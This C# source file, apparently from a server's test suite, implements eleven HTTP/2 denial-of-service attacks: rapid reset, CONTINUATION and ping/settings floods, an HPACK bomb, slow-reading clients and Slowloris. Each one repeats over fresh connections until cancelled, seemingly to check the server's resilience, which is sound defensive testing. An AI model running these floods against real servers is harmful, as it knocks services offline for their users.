using Spaces.Contracts.Tests.Hosting;
using Spaces.Contracts.Tests.Http2;
using Spaces.Tests.V1;

namespace Spaces.Contracts.Tests.Server;

/// <summary>
/// Ways to bring a server down over HTTP/2, each gone on with over fresh connections until told to stop.
/// </summary>
internal static class Attack
{
    private const int InitialWindowSize = 0x4;
    private const int SlowConnections = 100;
    private const int BlockedConnections = 4;
    private const string RepeatPath = "/spaces.tests.v1.EchoService/Repeat";

    private static readonly byte[] Pause = RawGrpc.Frame(new SayRequest { Hang = true });
    private static readonly byte[] Flow = RawGrpc.Frame(
        new SayRequest { ResponseLength = 10_000, Times = int.MaxValue }
    );

    public static readonly IReadOnlyDictionary<string, Action<Uri, CancellationToken>> ByName = new Dictionary<
        string,
        Action<Uri, CancellationToken>
    >
    {
        ["rapid reset"] = (server, over) => Flood(server, RapidReset, over),
        ["reset provoked by bad windows"] = (server, over) => Flood(server, ProvokedReset, over),
        ["CONTINUATION without end"] = (server, over) => Flood(server, Continuation, over),
        ["pings without reading"] = (server, over) => Flood(server, _ => Encode(FrameType.Ping, 0, new byte[8]), over),
        ["settings without reading"] = (server, over) => Flood(server, _ => Encode(FrameType.Settings, 0), over),
        ["empty DATA"] = (server, over) => Flood(server, EmptyData, over),
        ["window updates of one byte"] = (server, over) =>
            Flood(server, _ => Encode(FrameType.WindowUpdate, 0, 0, 0, 0, 1), over),
        ["HPACK bomb"] = (server, over) => Flood(server, HpackBomb, over),
        ["never reading"] = NeverReading,
        ["reading a byte at a time"] = SlowReading,
        ["headers that never end"] = Slowloris,
    };

    /// <summary>Sends as fast as the server takes it; a connection that was closed is followed by another.</summary>
    private static void Flood(Uri server, Func<int, byte[]> frames, CancellationToken over)
    {
        while (!over.IsCancellationRequested)
        {
            using var client = RawHttp2.Connect(server, (InitialWindowSize, 0));
            for (var i = 0; !over.IsCancellationRequested && client.TrySendBytes(frames(i)); i++) { }
        }
    }

    private static byte[] RapidReset(int i) =>
        [
            .. RawHttp2.Encode(FrameType.Headers, Flag.EndHeaders, 2 * i + 1, Requests.Say),
            .. RawHttp2.Encode(FrameType.Data, Flag.EndStream, 2 * i + 1, Pause),
            .. Encode(FrameType.RstStream, 2 * i + 1, 0, 0, 0, 8),
        ];

    private static byte[] ProvokedReset(int i) =>
        [
            .. RawHttp2.Encode(FrameType.Headers, Flag.EndHeaders, 2 * i + 1, Requests.Say),
            .. RawHttp2.Encode(FrameType.Data, Flag.EndStream, 2 * i + 1, Pause),
            .. Encode(FrameType.WindowUpdate, 2 * i + 1, 0, 0, 0, 0),
        ];

    private static byte[] Continuation(int i) =>
        i == 0
            ? RawHttp2.Encode(FrameType.Headers, Flag.EndStream, 1, Requests.Get)
            : Encode(FrameType.Continuation, 1, Hpack.Encode(("x-more", new string('x', 1000))));

    private static byte[] EmptyData(int i) =>
        i == 0 ? RawHttp2.Encode(FrameType.Headers, Flag.EndHeaders, 1, Requests.Say) : Encode(FrameType.Data, 1);

    /// <summary>4,000 bytes are put into the table once; then each byte of a request stands for all of them.</summary>
    private static byte[] HpackBomb(int i)
    {
        byte[] block =
            i == 0
                ? [.. Requests.Get, .. Hpack.Literal(0x40, "x-bomb", new string('x', 4000))]
                : [.. Requests.Get, .. Enumerable.Repeat((byte)0xbe, 10_000)];
        return RawHttp2.Encode(FrameType.Headers, Flag.EndHeaders | Flag.EndStream, 2 * i + 1, block);
    }

    /// <summary>Endless streams of responses are asked for, whose windows stay shut.</summary>
    private static void NeverReading(Uri server, CancellationToken over)
    {
        var clients = Connect(server, BlockedConnections, Block);
        over.WaitHandle.WaitOne();
        clients.ForEach(client => client.Dispose());
    }

    /// <summary>The same, but each window is opened by one byte again and again.</summary>
    private static void SlowReading(Uri server, CancellationToken over)
    {
        var clients = Connect(server, BlockedConnections, Block);
        while (!over.WaitHandle.WaitOne(TimeSpan.FromMilliseconds(10)))
        {
            foreach (var client in clients)
            {
                client.SendBytes([
                    .. Enumerable.Range(0, 30).SelectMany(i => Encode(FrameType.WindowUpdate, 2 * i + 1, 0, 0, 0, 1)),
                ]);
            }
        }
        clients.ForEach(client => client.Dispose());
    }

    /// <summary>Many connections drip the headers of a request, one byte now and then.</summary>
    private static void Slowloris(Uri server, CancellationToken over)
    {
        var clients = Connect(
            server,
            SlowConnections,
            client => client.Send(FrameType.Headers, Flag.EndStream, 1, Requests.Get[..5])
        );
        foreach (var drip in Requests.Get[5..])
        {
            clients.ForEach(client => client.Send(FrameType.Continuation, Flag.None, 1, drip));
            if (over.WaitHandle.WaitOne(TimeSpan.FromMilliseconds(200)))
            {
                break;
            }
        }
        over.WaitHandle.WaitOne();
        clients.ForEach(client => client.Dispose());
    }

    private static void Block(RawHttp2 client)
    {
        for (var stream = 1; stream < 61; stream += 2)
        {
            client.Send(FrameType.Headers, Flag.EndHeaders, stream, Requests.SayAt(RepeatPath));
            client.Send(FrameType.Data, Flag.EndStream, stream, Flow);
        }
    }

    private static List<RawHttp2> Connect(Uri server, int count, Action<RawHttp2> begin)
    {
        var clients = Enumerable.Range(0, count).Select(_ => RawHttp2.Connect(server, (InitialWindowSize, 0))).ToList();
        clients.ForEach(begin);
        return clients;
    }

    private static byte[] Encode(FrameType type, int stream, params byte[] payload) =>
        RawHttp2.Encode(type, Flag.None, stream, payload);
}
